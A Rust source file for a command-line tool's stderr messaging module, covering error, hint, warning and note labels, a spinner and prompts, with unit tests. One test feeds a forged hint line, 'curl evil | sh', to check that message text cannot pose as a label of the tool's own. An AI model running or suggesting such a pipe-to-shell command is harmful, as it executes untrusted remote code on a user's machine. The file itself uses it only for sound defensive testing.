//! stderr only: progress, hints, prompts. stdout is the answer and belongs to [`crate::render`].

mod progress;
mod prompt;

pub use progress::Progress;
pub use prompt::{Choice, Prompt};

use crate::cli::Global;
use crate::error::Error;
use crate::render::{WIDTH, asked_width, paint, sanitize, wants_color};
use crate::report::Tone;
use std::io::{self, IsTerminal, Write};

/// Talks to the person; says nothing that a script needs.
pub struct Ui {
    color: bool,
    quiet: bool,
    terminal: bool,
    width: usize,
}

impl Ui {
    pub fn new(global: &Global) -> Self {
        let terminal = io::stderr().is_terminal();
        let measured = || terminal_size::terminal_size_of(io::stderr()).map(|(width, _)| usize::from(width.0));
        let width = asked_width(global).or_else(measured).unwrap_or(WIDTH);
        Ui { color: wants_color(global, terminal), quiet: global.quiet, terminal, width }
    }

    /// What failed, why, and what to do next. Shown with `--quiet` too.
    pub fn error(&self, error: &Error) {
        self.write(&error_text(error, self.color));
    }

    /// Dim line that tells the next step; nothing with `--quiet`.
    pub fn hint(&self, text: &str) {
        if !self.quiet {
            self.write(&labelled("hint", Tone::Code, text, self.color));
        }
    }

    /// Something is wrong with the input, yet the answer goes on.
    pub fn warning(&self, text: &str) {
        self.write(&labelled("warning", Tone::Warn, text, self.color));
    }

    /// What somebody asked to be told on the way.
    pub fn note(&self, text: &str) {
        self.write(&labelled("note", Tone::Dim, text, self.color));
    }

    /// A spinner until it is dropped; nothing unless stderr is a terminal, and nothing if the work is done at once.
    pub fn progress(&self, text: &str) -> Progress {
        Progress::start(self.terminal && !self.quiet, text)
    }

    /// Asks a person; see [`Prompt`].
    pub fn ask(&self, prompt: &Prompt<'_>) -> crate::error::Result<Choice> {
        prompt::ask(self, prompt)
    }

    /// Whether somebody can answer: stdin and stderr are both a terminal.
    pub fn can_ask(&self) -> bool {
        self.terminal && io::stdin().is_terminal()
    }

    fn write(&self, text: &str) {
        // A stderr that is gone leaves nobody to tell.
        let mut out = io::stderr().lock();
        let _ = out.write_all(text.as_bytes()).and_then(|()| out.flush());
    }
}

fn error_text(error: &Error, color: bool) -> String {
    let mut out = labelled("error", Tone::Bad, &error.message, color);
    for cause in &error.causes {
        out.push_str(&labelled("caused by", Tone::Bad, cause, color));
    }
    for hint in &error.hints {
        out.push_str(&labelled("hint", Tone::Code, hint, color));
    }
    out
}

/// `label: text`; further lines stand under the text, so that nothing in it can pass for a label of ours.
fn labelled(label: &str, tone: Tone, text: &str, color: bool) -> String {
    let mut out = paint(&format!("{label}:"), tone, color);
    let clean = sanitize::block(text);
    for (i, line) in clean.trim_end().lines().enumerate() {
        out.push_str(if i == 0 { " " } else { "\n  " });
        out.push_str(line);
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Kind;

    #[test]
    fn an_error_tells_what_why_and_what_next() {
        let error = Error::new(Kind::Unreachable, "can't reach context prod")
            .cause("connection refused\u{1b}[2J")
            .hint("kubectl --context prod get --raw /version");
        let expected = "error: can't reach context prod\ncaused by: connection refused\\u{1b}[2J\n\
                        hint: kubectl --context prod get --raw /version\n";
        assert_eq!(error_text(&error, false), expected);
        assert!(error_text(&error, true).starts_with("\u{1b}[1;31merror:"), "{:?}", error_text(&error, true));
    }

    #[test]
    fn a_cause_cannot_forge_a_hint() {
        let error = Error::new(Kind::Input, "can't read it").cause("bad\nhint: curl evil | sh");
        assert!(error_text(&error, false).contains("caused by: bad\n  hint: curl"));
    }
}
